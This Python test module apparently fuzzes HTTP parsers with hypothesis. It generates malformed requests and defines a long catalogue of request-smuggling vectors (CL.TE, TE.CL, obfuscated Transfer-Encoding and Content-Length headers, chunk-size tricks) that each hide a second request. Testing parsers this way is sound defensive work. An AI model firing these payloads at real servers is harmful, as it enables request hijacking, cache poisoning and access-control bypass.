"""Requests as attackers combine them: strategies for hypothesis, and the known ways to smuggle."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from hypothesis import strategies as st

HOST: Final = b"{host}"
"""Stands for the pod's name."""

_METHODS: Final = [b"GET", b"POST", b"HEAD", b"OPTIONS", b"get", b"PUT", b"G\x00T", b"TRACE", b""]
_TARGETS: Final = [
    b"/",
    b"/a?b=c",
    b"*",
    b"http://" + HOST + b"/x",
    b"http://other/",
    b"https://" + HOST + b"/y",
    b"//x",
    b"/a b",
    b"/\xe9",
    b"/#f",
    b"",
    b"/\x7f",
    b"/%00",
]
_VERSIONS: Final = [b"HTTP/1.1"] * 6 + [
    b"HTTP/1.0",
    b"HTTP/1.2",
    b"HTTP/2.0",
    b"http/1.1",
    b"HTTP/1.1 ",
    b"HTTP/01.1",
]
_ENDS: Final = [b"\r\n"] * 90 + [b"\n", b"\r", b"\r\r\n", b"\r\n ", b"\r\n\t", b"\x0b\r\n", b"\x00\r\n"]
_LINES: Final = [
    b"Host: " + HOST,
    b"host:" + HOST,
    b"Host: other",
    b"Host : " + HOST,
    b"Host:",
    b"HOST: " + HOST + b":80",
    b"Content-Length: 0",
    b"Content-Length: 3",
    b"Content-Length: 5",
    b"content-length: 3",
    b"Content-Length: +3",
    b"Content-Length: -1",
    b"Content-Length: 3, 3",
    b"Content-Length: 0x3",
    b"Content-Length: 3 ",
    b"Content-Length:3",
    b"Content-Length : 3",
    b"Content_Length: 3",
    b"Content-Length: \x0b3",
    b"Content-Length: 3\x00",
    b"Content-Length: 00003",
    b"Content-Length:",
    b"X-Content-Length: 3",
    b"Transfer-Encoding: chunked",
    b"transfer-encoding: Chunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding: \x0bchunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunked\x00",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding:",
    b"X: y\rTransfer-Encoding: chunked",
    b"Transfer-Encoding\x00: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"Connection: close",
    b"Connection: keep-alive",
    b"Connection: Content-Length",
    b"Connection: Host",
    b"Connection: Transfer-Encoding",
    b"Connection: x, Upgrade",
    b"Upgrade: websocket",
    b"Upgrade: h2c",
    b"HTTP2-Settings: AA",
    b"Expect: 100-continue",
    b"TE: trailers",
    b"Trailer: X",
    b"Accept: */*",
    b"X:",
    b": x",
    b"X",
    b"X: \xff",
    b"\xff: x",
    b"X: a\x00b",
    b" folded",
    b"X-Forwarded-For: 1.1.1.1",
    b"Via: 1.0 x",
    b"Max-Forwards: 1",
    b"(x): y",
    b"X\t: y",
]
_BODIES: Final = [
    b"",
    b"abc",
    b"abcde",
    b"3\r\nabc\r\n0\r\n\r\n",
    b"0\r\n\r\n",
    b"3;x=y\r\nabc\r\n0\r\nT: v\r\n\r\n",
    b"3\nabc\n0\n\n",
    b"0x3\r\nabc\r\n0\r\n\r\n",
    b"3 \r\nabc\r\n0\r\n\r\n",
    b"3\r\nabcd\r\n0\r\n\r\n",
    b"3\r\nabc0\r\n\r\n",
    b"00\r\n\r\n",
    b"3;\r\nabc\r\n0\r\n\r\n",
    b"3;\nabc\r\n0\r\n\r\n",
    b"+3\r\nabc\r\n0\r\n\r\n",
    b"10000000000000003\r\nabc\r\n0\r\n\r\n",
    b"3\r\r\nabc\r\n0\r\n\r\n",
    b"0\r\nContent-Length: 3\r\n\r\n",
    b"0\r\n\r\nGET /inner HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    b"3\r\nabc\r\n0\r\n\n",
    b"3\r\nabc\r\n0\r\nX : y\r\n\r\n",
]


_HARMLESS: Final = [
    b"Accept: */*",
    b"X: y",
    b"X:",
    b"X: \xff",
    b"TE: trailers",
    b"Via: 1.0 x",
    b"X-Forwarded-For: 1.1.1.1",
    b"Connection: keep-alive",
    b"Connection: x, TE",
    b"Max-Forwards: 1",
    b"X-Content-Length: 3",
]


@st.composite
def _sound(draw: st.DrawFn) -> bytes:
    """A request nobody can misread; most get one of them, or readers would never come to a second request."""
    lines = [draw(st.sampled_from([b"Host: ", b"host:", b"HOST: "])) + HOST]
    lines += draw(st.lists(st.sampled_from(_HARMLESS), max_size=2))
    content = draw(st.sampled_from([b"", b"abc", b"GET / HTTP/1.1\r\n\r\n", b"0\r\n\r\n"]))
    framing = draw(st.sampled_from(["none", "length", "chunked"]))
    body = b""
    if framing == "length":
        lines.append(b"Content-Length: %d" % len(content))
        body = content
    elif framing == "chunked":
        lines.append(b"Transfer-Encoding: chunked")
        chunk = b"%x\r\n%b\r\n" % (len(content), content) if content else b""
        body = chunk + b"0" + draw(st.sampled_from([b"", b";a", b";a=b", b';a="b"'])) + b"\r\n"
        body += draw(st.sampled_from([b"", b"T: v\r\n"])) + b"\r\n"
    line = b"%b %b HTTP/1.1" % (draw(st.sampled_from(_METHODS[:4])), draw(st.sampled_from([b"/", b"/a?b=c"])))
    at = draw(st.integers(0, len(lines)))
    return b"\r\n".join((line, *lines[at:], *lines[:at], b"", b"")) + body


@st.composite
def _requests(draw: st.DrawFn) -> bytes:
    """One request: mostly sound, with something wrong here and there."""
    end = draw(st.sampled_from(_ENDS))
    parts = [
        draw(st.sampled_from(_METHODS[:4] * 4 + _METHODS)),
        b" ",
        draw(st.sampled_from(_TARGETS[:2] * 6 + _TARGETS)),
        b" ",
        draw(st.sampled_from(_VERSIONS)),
        end,
    ]
    lines = [b"Host: " + HOST] if draw(st.integers(0, 9)) else []
    lines += draw(st.lists(st.sampled_from(_LINES), max_size=2))
    lines += draw(st.sampled_from([[], [b"Transfer-Encoding: chunked"], [b"Content-Length: 3"]]))
    for line in lines:
        parts += [line, draw(st.sampled_from(_ENDS))]
    parts += [draw(st.sampled_from(_ENDS)), draw(st.sampled_from(_BODIES))]
    return b"".join(parts)


@st.composite
def _mutated(draw: st.DrawFn) -> bytes:
    """A few requests behind one another, with a byte changed, put in or left out."""
    kinds = st.one_of(_sound(), _sound(), _requests())
    data = b"".join(draw(st.lists(kinds, min_size=1, max_size=4)))
    for _ in range(draw(st.sampled_from([0, 0, 1, 1, 2]))):
        at = draw(st.integers(0, len(data)))
        byte = draw(
            st.sampled_from([b"", b"\r", b"\n", b"\x00", b" ", b"\t", b":", b";", b",", b"0", b"\xff", b"-"])
        )
        data = data[:at] + byte + data[at + draw(st.integers(0, 1)) :]
    return data


STREAMS: Final = _mutated()
CUTS: Final = st.lists(st.integers(0, 400), max_size=4)

_GET: Final = b"GET /smuggled HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n"


def _post(*lines: bytes, body: bytes = b"", version: bytes = b"HTTP/1.1") -> bytes:
    return b"\r\n".join((b"POST / " + version, b"Host: " + HOST, *lines, b"", b"")) + body


VECTORS: Final[Mapping[str, bytes]] = {
    # Content-Length for one reader, Transfer-Encoding for the other.
    "CL.TE": _post(b"Content-Length: 6", b"Transfer-Encoding: chunked", body=b"0\r\n\r\nG"),
    "TE.CL": _post(b"Transfer-Encoding: chunked", b"Content-Length: 4", body=b"5c\r\n" + _GET),
    "TE.0": _post(b"Transfer-Encoding: chunked", b"Content-Length: 0", body=b"5c\r\n" + _GET),
    "0.CL": _post(b"Content-Length: 0", b"Content-Length: 44", body=_GET),
    "CL.0 by a space before the colon": _post(b"Content-Length : 44", body=_GET),
    "CL.0 by an underscore": _post(b"Content_Length: 44", body=_GET),
    "CL.0 by a sign": _post(b"Content-Length: +44", body=_GET),
    "CL.CL": _post(b"Content-Length: 3", b"Content-Length: 44", body=_GET),
    "CL.CL in one line": _post(b"Content-Length: 3, 44", body=_GET),
    "CL with a vertical tab": _post(b"Content-Length: \x0b3", body=b"abc"),
    "CL in hexadecimal": _post(b"Content-Length: 0x3", body=b"abc"),
    "CL in digits of another script": _post("Content-Length: ３".encode(), body=b"abc"),
    "CL folded": _post(b"Content-Length:\r\n 3", body=b"abc"),
    "CL with spaces inside": _post(b"Content-Length: 4 4", body=_GET),
    "CL with underscores inside": _post(b"Content-Length: 4_4", body=_GET),
    # Numbers, and names, that one reader takes for a Content-Length and the next one does not.
    **{
        f"CL {line!r}": _post(line, body=_GET)
        for line in (
            b"Content-Length: -44",
            b"Content-Length: 0044",
            b"Content-Length: 054",
            b"Content-Length: 44.0",
            b"Content-Length: 4e1",
            b"Content-Length: 44;",
            b"Content-Length: 44,",
            b"Content-Length: ,44",
            b"Content-Length: 44, 44",
            b"Content-Length: 0, 44",
            b"Content-Length:",
            b"Content-Length: 44\x0b",
            b"Content-Length: 44\x0c",
            b"Content-Length:\x0c44",
            b"Content-Length: \xa044",
            b"Content-Length: 44\xc2\xa0",
            b"Content-Length: 44\x00",
            b"Content-Length: 44\r\nContent-Length:",
            b"Content-Length: 44\r\nContent-Length: 44",
            b"Content-Length: 0\r\nContent-Length : 44",
            b"Content-Length\x00: 44",
            b"Content-Length\x0b: 44",
            b"Content-Length\t: 44",
            b"Content-Length\xa0: 44",
            b"Content-Length\r: 44",
            b"\x00Content-Length: 44",
            b"Content Length: 44",
            b"Content\xa0Length: 44",
            b"CONTENT_LENGTH: 44",
            "Content\u2010Length: 44".encode(),
            "Content-Lengt\u04bb: 44".encode(),
        )
    },
    # 0.CL, led by an expectation: one reader waits for a body, the other one does not.
    **{
        f"0.CL by {line!r}": _post(line, b"Content-Length: 44", body=_GET)
        for line in (
            b"Expect: y 100-continue",
            b"Expect: 100-continue, y",
            b"Expect: 100-continue y",
            b"Expect: \x0b100-continue",
            b"Expect: 100-continue\x00",
            b"Expect: 100\xadcontinue",
            b"Expect:",
            b"Expect : 100-continue",
            b"Expect\x0b: 100-continue",
            b"Expect:\r\n 100-continue",
        )
    },
    "0.CL by an expectation and a space": _post(b"Expect: 100-continue", b"Content-Length : 44", body=_GET),
    "0.CL in a GET": b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: \x0b44\r\n\r\n" + _GET,
    # TE.TE: one reader does not recognise the coding.
    **{
        f"TE.TE {line!r}": _post(b"Content-Length: 4", line, body=b"5c\r\n" + _GET)
        for line in (
            b"Transfer-Encoding: xchunked",
            b"Transfer-Encoding : chunked",
            b"Transfer-Encoding:\x0bchunked",
            b"Transfer-Encoding:\x0cchunked",
            b"Transfer-Encoding: chunked\x0b",
            b"Transfer-Encoding: chunked\t",
            b"Transfer-Encoding:\tchunked",
            b"Transfer-Encoding: \x00chunked",
            b"Transfer-Encoding: chunked;q=1",
            b"Transfer-Encoding: 'chunked'",
            b'Transfer-Encoding: "chunked"',
            b"Transfer-Encoding: chun\tked",
            b"Transfer-Encoding: identity, chunked, identity",
            b"Transfer-Encoding\x00: chunked",
            b"Transfer-Encoding\xff: chunked",
            b"\xffTransfer-Encoding: chunked",
            b"Transfer-Encoding\t: chunked",
            b" Transfer-Encoding: chunked",
            b"X: x\nTransfer-Encoding: chunked",
            b"X: x\rTransfer-Encoding: chunked",
            b"Transfer-Encoding:\n chunked",
            b"Transfer-Encoding\n: chunked",
            b"Transfer_Encoding: chunked",
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
            b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
            b"Transfer-Encoding: chunked, chunked",
            b"Transfer-Encoding: chunked, identity",
            b"Transfer-Encoding: identity, chunked",
            b"Transfer-Encoding: identity",
            b"Transfer-Encoding: chunked,",
            b"Transfer-Encoding: ,chunked",
            b"Transfer-Encoding: chunked chunked",
            b"Transfer-Encoding: x chunked",
            b"Transfer-Encoding: chunked\x0c",
            b"Transfer-Encoding: chunked\xa0",
            b"Transfer-Encoding: \xa0chunked",
            b"Transfer-Encoding: \xc2\xa0chunked",
            b"Transfer-Encoding: \x85chunked",
            b"Transfer-Encoding: \xef\xbb\xbfchunked",
            b"Transfer-Encoding:\r\n chunked",
            b"Transfer-Encoding: chunk",
            b"Transfer-Encoding: chunked-x",
            b"Transfer-Encoding:",
            b"Transfer Encoding: chunked",
            b"Transfer\xa0Encoding: chunked",
            b"TRANSFER_ENCODING: chunked",
            b"Transfer-Encoding\r: chunked",
            b"Transfer-Encoding\x0b: chunked",
            "Transfer\u2010Encoding: chunked".encode(),
            "Transfer-Encoding: chun\u212aed".encode(),
        )
    },
    # Chunk sizes.
    **{
        f"chunk {body[:12]!r}": _post(b"Transfer-Encoding: chunked", body=body + _GET)
        for body in (
            b"0x0\r\n\r\n",
            b"+0\r\n\r\n",
            b"-0\r\n\r\n",
            b" 0\r\n\r\n",
            b"0 \r\n\r\n",
            b"0\n\n",
            b"0\r\r\n\r\n",
            b"0;\n\r\n",
            b"0;a=\nb\r\n\r\n",
            b'0;a="\r\n\r\n',
            b"1\r\nab\r\n0\r\n\r\n",
            b"1\r\na\n0\r\n\r\n",
            b"1\r\na0\r\n\r\n",
            b"1\r\na\rX0\r\n\r\n",
            b"100000000000000000\r\n\r\n",
            b"fffffffffffffffe\r\n\r\n",
            b"0_0\r\n\r\n",
            b"0.0\r\n\r\n",
            b"\r\n0\r\n\r\n",
            b";x\r\n0\r\n\r\n",
            b"0\r\nX: y\n\r\n",
            b"0\r\nX : y\r\n\r\n",
            b"0\r\n X: y\r\n\r\n",
            b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
            b"0\r\nContent-Length: 44\r\n\r\n",
            b"0\r\nHost: other\r\n\r\n",
            # The line of a size: its end, and what may be in it.
            b"0;x\r\r\n\r\n",
            b"0;x\rX\r\n\r\n",
            b"0;x\n\r\n\r\n",
            b"0;\x00\r\n\r\n",
            b"0;a=b;\r\n\r\n",
            b"0;;a\r\n\r\n",
            b'0;a="b\n"\r\n\r\n',
            b'0;a="\\\n"\r\n\r\n',
            b'0;a=b"c"\r\n\r\n',
            b"0\x0b\r\n\r\n",
            b"0\x0c\r\n\r\n",
            b"0\xa0\r\n\r\n",
            b"\t0\r\n\r\n",
            b"0\t\r\n\r\n",
            b"0\x00\r\n\r\n",
            b"0,0\r\n\r\n",
            b"0\r\n\n",
            b"00000000000000000\r\n\r\n",
            b"1g\r\na\r\n0\r\n\r\n",
            "\uff10\r\n\r\n".encode(),
            # The end of a chunk's data: two bytes of something else, or only one of them.
            b"1\r\naXX0\r\n\r\n",
            b"1\r\na\n\n0\r\n\r\n",
            b"1\r\na\r\r0\r\n\r\n",
            b"1\r\na\n\r0\r\n\r\n",
            b"1\r\na\r\n\n0\r\n\r\n",
            # The trailer.
            b"0\r\nX: y\r\n\n",
            b"0\r\nX\r\n\r\n",
            b"0\r\nX: y\rZ: a\r\n\r\n",
            b"0\r\nX: \x00\r\n\r\n",
            b"0\r\nContent_Length: 44\r\n\r\n",
            b"0\r\nTRANSFER_ENCODING: chunked\r\n\r\n",
            b"0\r\nConnection: close\r\n\r\n",
            b"0\r\nExpect: 100-continue\r\n\r\n",
            b"0\r\nX-Forwarded-For: 1.1.1.1\r\n\r\n",
        )
    },
    # Versions, lines, hosts, hop-by-hop.
    "TE in HTTP/1.0": _post(b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + _GET, version=b"HTTP/1.0"),
    "TE and keep-alive in HTTP/1.0": _post(
        b"Connection: keep-alive",
        b"Transfer-Encoding: chunked",
        body=b"0\r\n\r\n" + _GET,
        version=b"HTTP/1.0",
    ),
    "TE and CL in HTTP/1.0": _post(
        b"Connection: keep-alive",
        b"Content-Length: 5",
        b"Transfer-Encoding: chunked",
        body=b"0\r\n\r\n" + _GET,
        version=b"HTTP/1.0",
    ),
    "an HTTP/0.9 request": b"GET /\r\n" + _GET,
    "bare LF lines": b"GET / HTTP/1.1\nHost: " + HOST + b"\n\n" + _GET,
    "bare CR lines": b"GET / HTTP/1.1\rHost: " + HOST + b"\r\r" + _GET,
    "a LF in a value": _post(b"X: a\nContent-Length: 44", body=_GET),
    "NUL in a value": _post(b"X: \x00"),
    "NUL in a name": _post(b"X\x00: y"),
    "a second request line": b"GET / HTTP/1.1\r\nGET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "white space before the first field": b"GET / HTTP/1.1\r\n X: y\r\nHost: " + HOST + b"\r\n\r\n",
    "two hosts": _post(b"Host: other"),
    "a folded host": b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n other\r\n\r\n",
    "another host in the target": b"GET http://other/ HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "a user in the target": b"GET http://" + HOST + b"@other/ HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "Connection: Content-Length": _post(b"Connection: Content-Length", b"Content-Length: 44", body=_GET),
    "Connection: Transfer-Encoding": _post(
        b"Connection: Transfer-Encoding", b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + _GET
    ),
    "Connection: Host": _post(b"Connection: Host"),
    "Connection: Authorization": _post(b"Connection: Authorization", b"Authorization: x"),
    "Connection: X-Forwarded-For": _post(b"Connection: X-Forwarded-For"),
    "a space in the target": b"GET / x HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "a tab in the request line": b"GET\t/ HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "a vertical tab in the request line": b"GET /\x0b HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "a vertical tab for a space": b"GET\x0b/ HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "a no-break space in the request line": b"GET /\xa0HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "white space after the version": b"GET / HTTP/1.1\x0b\r\nHost: " + HOST + b"\r\n\r\n",
    "a byte order mark first": b"\xef\xbb\xbfGET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "NUL first": b"\x00GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "another port in the target": b"GET http://" + HOST + b":81/ HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "another scheme in the target": b"GET ftp://" + HOST + b"/ HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "a host with a space before its colon": _post(b"Host : other"),
    "a host behind a vertical tab": _post(b"\x0bHost: other"),
    "an upgrade to HTTP/2 that is no upgrade": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "two empty lines first": b"\r\n\r\nGET / HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
    "TLS": b"\x16\x03\x01\x02\x00\x01",
    "the version twice": b"GET / HTTP/1.1 HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n",
}
